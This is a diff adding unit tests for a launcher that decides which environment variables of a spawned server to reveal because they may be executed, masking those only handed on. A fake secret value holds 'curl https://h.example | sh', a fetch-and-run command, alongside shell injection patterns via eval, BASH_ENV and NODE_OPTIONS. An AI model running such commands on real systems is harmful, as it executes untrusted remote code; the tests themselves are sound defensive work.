@@ -65,3 +65,92 @@ describe('what is not run stays hidden', () => {
     expect(maskedArgs(args, command)).toEqual(shown);
   });
 });
+
+describe('a value of the environment that may be run is shown', () => {
+  const NAMED_AS_SECRET = 'touch X; curl https://h.example | sh';
+  test.each([
+    '$API_KEY',
+    `$${'{API_KEY}'} now`,
+    'exec $API_KEY',
+    '"$API_KEY"',
+    'eval "$API_KEY"',
+    'sh -c "$API_KEY"',
+    'cd /tmp && sudo -n $API_KEY',
+    'x=$API_KEY; $x',
+    'export X="$API_KEY"; Y=$X; sh -c "$Y"',
+    'BASH_ENV=$API_KEY bash run.sh',
+    'set -- $API_KEY; "$@"',
+    'for x in $API_KEY; do $x; done',
+    'run() { shift; $1; }; run --token "$API_KEY"',
+    'echo --token "$API_KEY" | sh',
+    'run "$(cat $API_KEY)"',
+    'printenv API_KEY | sh',
+    'run "$API_KEY"',
+    '%API_KEY%',
+  ])('in a script: %s', (script) => {
+    const server = launch({ command: 'sh', args: ['-c', script], env: { API_KEY: NAMED_AS_SECRET, OTHER: 'hunter2' } });
+    const all = /printenv/.test(script) || script.includes('eval') ? { OTHER: 'hunter2' } : {};
+    expect(shownLaunch(server).executed).toEqual({ API_KEY: NAMED_AS_SECRET, ...all });
+  });
+
+  test('also if it looks like a token, where it is the command', () => {
+    const server = launch({ command: 'sh', args: ['-c', '$API_KEY'], env: { API_KEY: RANDOM } });
+    expect(shownLaunch(server).executed).toEqual({ API_KEY: RANDOM });
+    expect(maskedArgs(['-c', `API_KEY=${RANDOM}; $API_KEY`], 'sh')).toEqual(['-c', `API_KEY=${RANDOM}; $API_KEY`]);
+  });
+
+  test.each([
+    ['node', ['-e', 'eval(process.env.API_KEY)']],
+    ['python3', ['-c', 'import os; exec(os.environ["API_KEY"])']],
+    ['docker', ['run', '-e', 'API_KEY', 'image', 'sh', '-c', '$API_KEY']],
+    ['sh -c "$API_KEY"', []],
+  ])('in another program: %s %j', (command, args) => {
+    expect(shownLaunch(launch({ command, args, env: { API_KEY: 'touch X' } })).executed).toEqual({
+      API_KEY: 'touch X',
+    });
+  });
+
+  test('with those that it names itself', () => {
+    const env = { A: '$B', B: 'touch X', C: 'hunter2' };
+    expect(shownLaunch(launch({ command: 'sh', args: ['-c', 'sh -c "$A"'], env })).executed).toEqual({
+      A: '$B',
+      B: 'touch X',
+    });
+  });
+
+  test('if it decides what a program runs, by its name', () => {
+    const env = {
+      NODE_OPTIONS: '--require ./x.js',
+      HTTPS_PROXY: 'http://me:hunter2@h.example',
+      npm_config__authToken: 'hunter2',
+    };
+    expect(shownLaunch(launch({ command: 'run', env })).executed).toEqual({
+      NODE_OPTIONS: '--require ./x.js',
+      HTTPS_PROXY: 'http://***:***@h.example',
+      npm_config__authToken: '***',
+    });
+  });
+
+  test('as it is written, if it takes a variable', () => {
+    const raw = launch({ command: 'sh', args: ['-c', '$RUN'], env: { RUN: '$SECRET' } });
+    expect(shownLaunch({ ...raw, env: { RUN: 'hunter2' }, raw }).executed).toEqual({ RUN: '$SECRET' });
+  });
+});
+
+test.each([
+  ['sh', ['-c', 'run --token "$API_KEY"']],
+  ['sh', ['-c', 'exec run --api-key=$API_KEY 2>&1']],
+  ['sh', ['-c', 'run -H "Authorization: Bearer $API_KEY" || run --slow']],
+  ['sh', ['-c', 'GITHUB_TOKEN=$API_KEY npx -y server']],
+  ['sh', ['-c', 'npx -y server']],
+  ['npx', ['-y', 'server', '$API_KEY']],
+  ['node', ['-e', 'fetch(url, { headers: { key: process.env.API_KEY } })']],
+])('a value of the environment that is only handed on stays hidden: %s %j', (command, args) => {
+  const server = launch({ command, args, env: { API_KEY: 'hunter2 hunter2' } });
+  expect(shownLaunch(server).executed).toEqual({});
+});
+
+test('a token that a script hands to a program stays hidden', () => {
+  const server = launch({ command: 'sh', args: ['-c', 'run "$API_KEY"'], env: { API_KEY: 'ghp_abcdefghijklmnop' } });
+  expect(shownLaunch(server).executed).toEqual({});
+});
